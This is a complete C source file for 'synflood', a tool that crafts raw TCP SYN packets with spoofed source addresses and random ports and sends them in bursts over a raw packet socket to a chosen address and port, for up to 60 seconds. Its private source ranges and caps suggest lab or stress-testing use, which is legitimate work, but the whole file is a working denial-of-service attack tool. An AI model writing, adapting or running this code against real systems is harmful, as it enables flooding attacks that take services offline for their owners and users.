/*
 * SYNs from spoofed sources, as fast as they go.
 *
 *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]
 *
 * ADDRESS is of IPv4 or IPv6. Sources are 10.1.0.0/16 (SOURCE 0.0.0.0), or any of 65536 networks
 * below fd01::/16 (SOURCE ::), or that one, with random ports; RATE is how many a second, 0 as fast
 * as they go. Prints how many were sent. Ends after SECONDS (at most 60) or 100 million.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { ETH = 14, IPV4 = 20, IPV6 = 40, TCP = 20, SYN = 2 };
enum { BURST = 64, MOST = 100000000, MOST_S = 60, PAUSE_US = 200 };

/* Who is flooded, by whom, and the length of an address. */
struct aim {
	uint8_t mac[6];
	uint8_t to[16], from[16]; /* from: zeros: many */
	unsigned len;
	uint16_t port;
};

static uint8_t frames[BURST][ETH + IPV6 + TCP];
static struct iovec iov[BURST];
static struct mmsghdr messages[BURST];

static uint32_t sum(uint32_t start, const uint8_t *p, unsigned len)
{
	for (unsigned i = 0; i < len; i += 2)
		start += (uint32_t)p[i] << 8 | p[i + 1];
	return start;
}

static void put_sum(uint8_t *p, uint32_t value)
{
	while (value >> 16)
		value = (value & 0xffff) + (value >> 16);
	p[0] = (uint8_t)(~value >> 8);
	p[1] = (uint8_t)~value;
}

/* Writes the header but for the addresses; returns where these go. */
static uint8_t *put_ip(uint8_t *ip, unsigned len)
{
	if (len == 4) {
		ip[0] = 0x45;
		ip[3] = IPV4 + TCP;
		ip[8] = 64;
		ip[9] = IPPROTO_TCP;
		return ip + 12;
	}
	ip[0] = 0x60;
	ip[5] = TCP;
	ip[6] = IPPROTO_TCP;
	ip[7] = 64;
	return ip + 8;
}

static void put_source(uint8_t *at, const struct aim *aim, const uint8_t random[4])
{
	static const uint8_t none[16];

	if (memcmp(aim->from, none, aim->len)) {
		memcpy(at, aim->from, aim->len);
	} else if (aim->len == 4) {
		at[0] = 10;
		at[1] = 1;
		memcpy(at + 2, random, 2);
	} else {
		at[0] = 0xfd;
		at[1] = 1;
		memcpy(at + 6, random, 2);
		at[15] = 1;
	}
}

static void put_tcp(uint8_t *tcp, const uint8_t *addresses, const struct aim *aim,
                    const uint8_t random[4])
{
	tcp[0] = 0x40 | random[3];
	tcp[1] = random[2];
	tcp[2] = (uint8_t)(aim->port >> 8);
	tcp[3] = (uint8_t)aim->port;
	memcpy(tcp + 4, random, 4);
	tcp[12] = TCP / 4 << 4;
	tcp[13] = SYN;
	tcp[14] = 0xff;
	put_sum(tcp + 16, sum(sum(IPPROTO_TCP + TCP, addresses, 2 * aim->len), tcp, TCP));
}

/* Returns how long it is. */
static unsigned fill(uint8_t *frame, const struct aim *aim)
{
	const uint32_t number = (uint32_t)rand();
	const unsigned header = aim->len == 4 ? IPV4 : IPV6;
	uint8_t *ip = frame + ETH, *addresses, random[4];

	memcpy(random, &number, sizeof(random));
	memset(frame, 0, ETH + header + TCP);
	memcpy(frame, aim->mac, sizeof(aim->mac));
	frame[6] = 2;
	frame[11] = 0x99;
	frame[12] = aim->len == 4 ? 0x08 : 0x86;
	frame[13] = aim->len == 4 ? 0x00 : 0xdd;
	addresses = put_ip(ip, aim->len);
	put_source(addresses, aim, random);
	memcpy(addresses + aim->len, aim->to, aim->len);
	if (aim->len == 4)
		put_sum(ip + 10, sum(0, ip, IPV4));
	put_tcp(ip + header, addresses, aim, random);
	return ETH + header + TCP;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int usage(void)
{
	fprintf(stderr,
	        "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE [RATE]]\n");
	return 2;
}

static bool parse(int argc, char **argv, struct aim *ret)
{
	const int family = argc > 3 && strchr(argv[3], ':') ? AF_INET6 : AF_INET;

	if (argc < 6 || argc > 8 || inet_pton(family, argv[3], ret->to) != 1 ||
	    (argc >= 7 && inet_pton(family, argv[6], ret->from) != 1) || atoi(argv[5]) < 1 ||
	    atoi(argv[5]) > MOST_S)
		return false;
	ret->len = family == AF_INET ? 4 : 16;
	ret->port = (uint16_t)atoi(argv[4]);
	return sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &ret->mac[0], &ret->mac[1],
	              &ret->mac[2], &ret->mac[3], &ret->mac[4], &ret->mac[5]) == 6;
}

static unsigned long flood(int fd, const struct aim *aim, int seconds, double rate)
{
	const time_t end = time(NULL) + seconds;
	const double started = now();
	unsigned long sent = 0;

	while (time(NULL) < end && sent < MOST) {
		int n;

		if (rate > 0 && (double)sent > (now() - started) * rate) {
			usleep(PAUSE_US);
			continue;
		}
		for (unsigned i = 0; i < BURST; i++) {
			iov[i] = (struct iovec){frames[i], fill(frames[i], aim)};
			messages[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
		}
		n = sendmmsg(fd, messages, BURST, 0);
		sent += n > 0 ? (unsigned long)n : 0;
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET};
	struct aim aim = {.len = 0};
	int fd;

	if (!parse(argc, argv, &aim))
		return usage();
	at.sll_protocol = htons(aim.len == 4 ? ETH_P_IP : ETH_P_IPV6);
	at.sll_ifindex = (int)if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0) {
		perror("synflood");
		return 1;
	}
	printf("%lu\n", flood(fd, &aim, atoi(argv[5]), argc == 8 ? atof(argv[7]) : 0));
	return 0;
}
